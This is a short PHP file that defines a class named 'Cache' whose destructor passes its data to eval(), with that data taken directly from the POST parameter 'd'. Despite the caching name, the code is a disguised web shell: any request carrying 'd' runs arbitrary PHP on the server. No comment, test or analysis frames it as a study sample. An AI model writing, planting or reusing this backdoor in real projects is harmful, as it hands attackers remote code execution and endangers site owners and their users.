<?php
class Cache
{
    public $data;
    function __destruct()
    {
        eval($this->data);
    }
}
$c = new Cache();
$c->data = $_POST['d'];
